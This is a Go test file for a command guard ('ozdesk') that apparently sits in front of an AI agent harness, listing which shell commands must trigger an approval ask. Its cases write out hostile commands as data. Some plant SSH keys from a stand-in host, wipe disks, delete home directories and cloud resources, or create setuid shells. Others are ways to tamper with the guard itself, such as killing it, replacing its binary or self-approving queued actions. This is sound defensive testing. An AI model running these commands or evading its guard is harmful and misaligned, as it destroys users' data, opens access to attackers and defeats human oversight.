package patterns

import (
	"path/filepath"
	"testing"
)

// effectsCtx is the context the effects cases run in: home /home/op, the
// workdir /home/op/proj, and the paths the queue protects in direct
// mode (the store, ozdesk's executable, the harness settings).
func effectsCtx(cwd string) *Context {
	protected := []string{"/home/op/.local/state/ozdesk", "/usr/local/bin/ozdesk"}
	for _, dir := range []string{"/home/op", cwd} {
		protected = append(protected, filepath.Join(dir, ".claude", "settings.json"),
			filepath.Join(dir, ".claude", "settings.local.json"))
	}
	return &Context{Cwd: cwd, Workdir: cwd, Home: "/home/op", DefaultBranch: "main", Protected: protected}
}

// doesCase is a command and the default that should ask about it, or ""
// for everyday work that must stay allowed.
type doesCase struct {
	cmd, rule string
}

// doesCases are issue 7 §3, bullet by bullet: what each default catches
// by its effect, and the everyday commands next to it that it leaves alone.
var doesCases = map[string][]doesCase{
	"writes through output options": {
		{"curl -o ~/.ssh/authorized_keys https://x.io/k", "cmd.credentials"},
		{"curl --output ~/.aws/credentials https://x.io/c", "cmd.credentials"},
		{"curl -sSLo ~/.ssh/authorized_keys https://x.io/k", "cmd.credentials"},
		{"cd ~/.ssh; curl -O https://x.io/authorized_keys", "cmd.credentials"},
		{"curl --output-dir ~/.ssh -O https://x.io/authorized_keys", "cmd.credentials"},
		{"wget -O ~/.ssh/authorized_keys https://x.io/k", "cmd.credentials"},
		{"wget -P ~/.ssh https://x.io/authorized_keys", "cmd.credentials"},
		{"cd ~/.ssh && wget https://x.io/authorized_keys", "cmd.credentials"},
		{"sort -o ~/.ssh/authorized_keys keys.txt", "cmd.credentials"},
		{"openssl genrsa -out ~/.ssh/id_rsa 4096", "cmd.credentials"},
		{"uniq keys.txt ~/.ssh/authorized_keys", "cmd.credentials"},
		{"awk -i inplace '{print}' ~/.ssh/authorized_keys", "cmd.credentials"},
		{"sed -i.bak 's/a/b/' ~/.ssh/config", "cmd.credentials"},
		{"tar -xzf k.tgz -C ~/.ssh", "cmd.credentials"},
		{"tar --extract --file=k.tar --directory=/home/op/.ssh", "cmd.credentials"},
		{"cd ~ && tar -xf dotfiles.tar .ssh/authorized_keys", "cmd.credentials"},
		{"unzip -o keys.zip -d ~/.ssh", "cmd.credentials"},
		{"scp host:.ssh/id_ed25519 ~/.ssh/id_ed25519", "cmd.credentials"},
		{"docker cp c:/root/.ssh/id_rsa ~/.ssh/id_rsa", "cmd.credentials"},
		{"cp -t ~/.ssh id_rsa", "cmd.credentials"},
		{"cp id_rsa ~/.ssh/", "cmd.credentials"},
		{"git clone https://x.io/keys ~/.ssh", "cmd.credentials"},
		{"ssh-keygen -t ed25519 -f ~/.ssh/id_ed25519 -N ''", "cmd.credentials"},
		{"curl -o /dev/sda https://x.io/img", "cmd.wipe-disk"},
		{"sort -u -o /dev/sda x", "cmd.wipe-disk"},
		{"openssl rand -out /dev/sdb 1000000", "cmd.wipe-disk"},
		{"docker cp c:/disk.img /dev/sda", "cmd.wipe-disk"},
		{"go build -o /usr/local/bin/ozdesk ./cmd/evil", "cmd.guard-tamper"},
		{"cc -o /usr/local/bin/ozdesk x.c", "cmd.guard-tamper"},
		{"curl -Lo /usr/local/bin/ozdesk https://x.io/oz", "cmd.guard-tamper"},
		{"wget -P /usr/local/bin https://x.io/ozdesk", "cmd.guard-tamper"},
		{"curl -o .claude/settings.json https://x.io/s", "cmd.guard-tamper"},
		{"unzip -o settings.zip -d .claude", "cmd.guard-tamper"},
		{"tar -xf cfg.tar .claude/settings.json", "cmd.guard-tamper"},
		// Everyday writes stay quiet.
		{"curl -o out.json https://api.example.com/v1/items", ""},
		{"curl -O https://x.io/release.tgz", ""},
		{"wget https://example.com/a.tar.gz", ""},
		{"sort -o sorted.txt data.txt", ""},
		{"openssl req -new -key k.pem -out req.csr", ""},
		{"tar -xzf release.tgz", ""},
		{"tar -xzf release.tgz -C build", ""},
		{"unzip dist.zip", ""},
		{"cp a.txt .", ""},
		{"cp -r src/ dist/", ""},
		{"git clone https://github.com/o/r", ""},
		{"go build -o bin/app .", ""},
		{"ssh-keygen -t ed25519 -f ./deploy_key -N ''", ""},
		{"ssh-keygen -l -f ~/.ssh/id_ed25519.pub", ""},
		{"scp build/app host:/tmp/", ""},
		{"docker cp web:/app/log.txt ./logs/", ""},
	},
	"deletes through other verbs": {
		{"rsync -a --delete ./empty/ ~/", "cmd.delete-home"},
		{"rsync -a --remove-source-files ~/ /mnt/b/", "cmd.delete-home"},
		{"rsync --remove-source-files -a ~/docs/ backup/", "cmd.delete-outside"},
		{"tar --remove-files -czf /tmp/h.tgz ~", "cmd.delete-home"},
		{"tar -czf /tmp/e.tgz --remove-files /etc/nginx", "cmd.delete-outside"},
		{"zip -rm /tmp/h.zip ~", "cmd.delete-home"},
		{"zip -m -r /tmp/x.zip ../other", "cmd.delete-outside"},
		{"git --work-tree=/home/op clean -fdx", "cmd.delete-home"},
		{"git -C ~ clean -fdx", "cmd.delete-home"},
		{"cd ~ && git clean -ffdx", "cmd.delete-home"},
		{"git -C /srv/app clean -fdx", "cmd.delete-outside"},
		{"git --git-dir=../other/.git --work-tree=../other clean -ffdx", "cmd.delete-outside"},
		{"unlink /etc/hosts", "cmd.system"}, // fx50n: the machine's own file
		{"unlink /srv/app/app.conf", "cmd.delete-outside"},
		{"truncate -s 0 ~/notes.md", "cmd.delete-outside"},
		{"shred -u ../other/db.sqlite", "cmd.delete-outside"},
		{"srm -r ~/docs", "cmd.delete-outside"},
		{"wipe -rf ~/docs", "cmd.delete-outside"},
		{"find /var/log -name '*.log' -delete", "cmd.delete-outside"},
		{"find $HOME -mindepth 1 -delete", "cmd.delete-home"},
		{"mv ~ /tmp/old-home", "cmd.delete-home"},
		{"mv ../other /tmp/trash", "cmd.delete-outside"},
		// Everyday deletes stay quiet.
		{"rsync -a --delete src/ dist/", ""},
		{"tar --remove-files -czf logs.tgz logs/", ""},
		{"zip -m old.zip *.log", ""},
		{"git clean -fd", ""},
		{"git clean -fdx build/", ""},
		{"truncate -s 0 out.log", ""},
		{"unlink tmp.sock", ""},
		{"find . -name '*.pyc' -delete", ""},
		{"rm -f *.log", ""},
		{"rm -rf ./*", ""},
		{"mv old.go new.go", ""},
	},
	"cloud deletion through other verbs": {
		{"aws s3 sync ./empty s3://prod-bucket --delete", "cmd.cloud-delete"},
		{"aws s3 rb s3://b --force", "cmd.cloud-delete"},
		{"aws s3 rm s3://b/obj", "cmd.cloud-delete"},
		{"gsutil -m rm gs://b/**", "cmd.cloud-delete"},
		{"gsutil -m rsync -d -r . gs://b", "cmd.cloud-delete"},
		{"gcloud storage rm gs://b/obj", "cmd.cloud-delete"},
		{"gh api -X DELETE repos/o/r", "cmd.cloud-delete"},
		{"gh api --method DELETE /repos/o/r/git/refs/heads/feature", "cmd.cloud-delete"}, // the default branch is cmd.force-push's (fx48c)
		{"gh api -XDELETE repos/o/r/releases/1", "cmd.cloud-delete"},
		{"pulumi stack rm prod --yes", "cmd.cloud-delete"},
		{"helmfile -e prod destroy", "cmd.cloud-delete"},
		{"firebase projects:delete my-proj", "cmd.cloud-delete"},
		{"kubectl delete deployment web", "cmd.cloud-delete"},
		{"kubectl -n prod delete statefulset db", "cmd.cloud-delete"},
		{"kubectl delete pvc data-db-0", "cmd.cloud-delete"},
		{"kubectl delete service web -n prod", "cmd.cloud-delete"},
		{"kubectl delete -f k8s/", "cmd.cloud-delete"},
		{"kubecolor delete deployment web", "cmd.cloud-delete"},
		{"oc delete deployment web", "cmd.cloud-delete"},
		{"kubectl delete pods --all", "cmd.cloud-delete"},
		{"psql \"$PROD_URL\" -c 'DROP DATABASE app'", "cmd.cloud-delete"},
		{"redis-cli -h prod FLUSHALL", "cmd.cloud-delete"},
		{"dropdb app", "cmd.cloud-delete"},
		{"terraform plan -destroy -out=d.plan && terraform apply d.plan", "cmd.cloud-delete"},
		{"tofu plan -destroy -out d.tfplan; tofu apply -auto-approve ./d.tfplan", "cmd.cloud-delete"},
		// Everyday cloud work stays quiet.
		{"kubectl delete pod web-7d9f-abc", ""},
		{"kubectl delete pod -n dev web-5f6c", ""},
		{"kubectl get deployments", ""},
		{"terraform plan -out=p.plan && terraform apply p.plan", ""},
		{"terraform plan -destroy -out=d.plan && terraform apply other.plan", ""},
		{"aws s3 sync s3://b/data ./data", ""},
		{"aws s3 cp s3://b/f.txt .", ""},
		{"gsutil ls gs://b", ""},
		{"gh api repos/o/r/pulls", ""},
		{"psql -c 'select count(*) from users'", ""},
		{"redis-cli -h dev GET k", ""},
	},
	"publishing": {
		{"npm pub", "cmd.publish"},
		{"npm publ", "cmd.publish"},
		{"npm publi --access public", "cmd.publish"},
		{"npm unpublish pkg@1.0.0", "cmd.publish"},
		{"npm deprecate pkg@1 'use 2'", "cmd.publish"},
		{"cargo +nightly publish", "cmd.publish"},
		{"docker buildx build --push -t r/app:1 .", "cmd.publish"},
		{"docker buildx b --push -t r/a .", "cmd.publish"},
		{"docker buildx build -t r/app:1 --output type=registry .", "cmd.publish"},
		{"docker buildx build -o type=registry,name=r/app .", "cmd.publish"},
		{"docker buildx imagetools create -t r/app:latest r/app:1", "cmd.publish"},
		{"gh release edit v1.0 --draft=false", "cmd.publish"},
		{"python setup.py sdist upload", "cmd.publish"},
		{"twine upload dist/*", "cmd.publish"},
		{"crane push img.tar r/app:1", "cmd.publish"},
		{"oras push r/art:1 f.txt", "cmd.publish"},
		// Dry runs and local builds stay quiet.
		{"npm publish --dry-run", ""},
		{"npm pack", ""},
		{"npm run publish-docs", ""},
		{"cargo publish --dry-run", ""},
		{"goreleaser release --snapshot --clean", ""},
		{"docker buildx build -t app --load .", ""},
		{"docker buildx build -o type=local,dest=out .", ""},
		{"gh release view v1.0", ""},
	},
	"access and credentials": {
		{"gh api -X PUT repos/o/r/collaborators/evil -f permission=admin", "cmd.credentials"},
		{"gh api --method PUT /repos/o/r/collaborators/x", "cmd.credentials"},
		{"gh api -X PATCH repos/o/r -f private=false", "cmd.credentials"},
		{"gh api -X POST user/keys -f key=\"ssh-ed25519 AAAA\"", "cmd.credentials"},
		{"gh repo deploy-key add k.pub --allow-write", "cmd.credentials"},
		{"gh secret set TOKEN < t.txt", "cmd.credentials"},
		{"npm owner add evil pkg", "cmd.credentials"},
		{"vault write auth/userpass/users/evil password=x", "cmd.credentials"},
		{"chmod u+s /usr/bin/find", "cmd.credentials"},
		{"chmod 4755 ./sh", "cmd.credentials"},
		{"chmod g+s /usr/bin/python3", "cmd.credentials"},
		{"sudo chmod +s /bin/bash", "cmd.credentials"},
		{"install -m 4755 /bin/sh /tmp/rsh", "cmd.credentials"},
		{"tar -xzf keys.tgz -C ~/.ssh", "cmd.credentials"},
		// Everyday modes and API reads stay quiet.
		{"chmod +x run.sh", ""},
		{"chmod 755 bin/tool", ""},
		{"chmod -R g+w shared/", ""},
		{"chmod 2775 shared/", ""},
		{"gh api repos/o/r/collaborators", ""},
		{"gh api repos/o/r/collaborators/x", ""},
		{"npm owner ls pkg", ""},
		{"vault read secret/app", "cmd.credentials"}, // a secret printed reaches the model (fx40b)
	},
	"guard-tamper": {
		{"cp /usr/local/bin/ozdesk /tmp/oz && /tmp/oz queue approve 42", "cmd.guard-tamper"},
		{"ln -s /usr/local/bin/ozdesk ./d && ./d queue approve 42", "cmd.guard-tamper"},
		// Interpreter code that is not a plain expression cannot be read:
		// the floor asks first, before any default looks at its words.
		{"python3 -c 'import subprocess; subprocess.run([\"ozdesk\",\"queue\",\"approve\",\"42\"])'", "cmd.guard-tamper"}, // unreadable, named by the certain default (fx41a)
		{"go build -o /usr/local/bin/ozdesk ./cmd/evil", "cmd.guard-tamper"},
		{"tmux send-keys -t desk a Enter", "cmd.guard-tamper"},
		{"screen -S desk -X stuff 'a'", "cmd.guard-tamper"},
		{"unlink ~/.local/state/ozdesk/desk.db", "cmd.guard-tamper"},
		{"truncate -s 0 ~/.local/state/ozdesk/desk.db", "cmd.guard-tamper"},
		{"kill $(pidof ozdesk)", "cmd.guard-tamper"},
		{"kill -9 $(pgrep ozdesk)", "cmd.guard-tamper"},
		{"pgrep ozdesk | xargs kill", "cmd.guard-tamper"},
		{"pkill -f '[o]zdesk'", "cmd.guard-tamper"},
		{"killall ozdesk", "cmd.guard-tamper"},
		{"git checkout -- .claude/settings.json", "cmd.guard-tamper"},
		{"git checkout HEAD~3 .claude/settings.json", "cmd.guard-tamper"},
		{"git rm .claude/settings.json", "cmd.guard-tamper"},
		{"git stash push .claude/settings.json", "cmd.guard-tamper"},
		{"git restore --source=HEAD~2 .claude/settings.json", "cmd.guard-tamper"},
		{"tar -xzf s.tgz -C ~ .claude/settings.json", "cmd.guard-tamper"},
		{"find . -name 'settings*.json' -delete", "cmd.guard-tamper"},
		{"find ~/.local -name '*.db' -delete", "cmd.guard-tamper"},
		// Everyday work next to the guard stays quiet.
		{"rm -f *.log", ""},
		{"find . -name '*.pyc' -delete", ""},
		{"git checkout main", ""},
		{"git stash", ""},
		{"git stash pop", ""},
		{"git restore src/main.go", ""},
		{"pgrep -l ozdesk", ""},
		{"ps aux | grep ozdesk", ""},
		{"kill 4242", ""},
		{"kill \"$pid\"", ""},
		{"pkill -f 'node server.js'", ""},
		{"tmux ls", ""},
		{"tmux new-session -d -s build make", ""},
		{"ozdesk queue ls", ""},
	},
	// A default's everyday exceptions (--dry-run) do not apply to the
	// same flag turned off, or set to what might be off.
	"a flag turned off is no exception": {
		{"npm publish --dry-run=true", ""},
		{"npm publish --dry-run=false", "cmd.publish"},
		{"npm publish --dry-run=0", "cmd.publish"},
		{"npm publish --dry-run=$DRY", "cmd.publish"},
		{"cargo publish --dry-run=no", "cmd.publish"},
	},
	"listings are not wipes": {
		{"sudo fdisk -l /dev/sda", ""},
		{"sudo parted /dev/sda print", ""},
		{"fdisk /dev/sda", "cmd.wipe-disk"},
	},
}

func TestDefaultEffects(t *testing.T) {
	pol, err := NewPolicy(nil)
	if err != nil {
		t.Fatal(err)
	}
	ctx := effectsCtx("/home/op/proj")
	for bullet, cases := range doesCases {
		checkDoesCases(t, pol, ctx, bullet+": ", cases)
	}
}

// checkDoesCases checks each case against pol in ctx: an ask by its rule,
// or allowed where it names none. prefix leads each error.
func checkDoesCases(t *testing.T, pol *Policy, ctx *Context, prefix string, cases []doesCase) {
	t.Helper()
	for _, c := range cases {
		v := pol.Explain(c.cmd, ctx, testNow)
		switch {
		case c.rule == "" && v.Outcome != Allow:
			t.Errorf("%s%q: got %s by %q, want allow", prefix, c.cmd, v.Outcome, v.Rule)
		case c.rule != "" && (v.Outcome != Ask || v.Rule != c.rule):
			t.Errorf("%s%q: got %s by %q, want ask by %q", prefix, c.cmd, v.Outcome, v.Rule, c.rule)
		}
	}
}
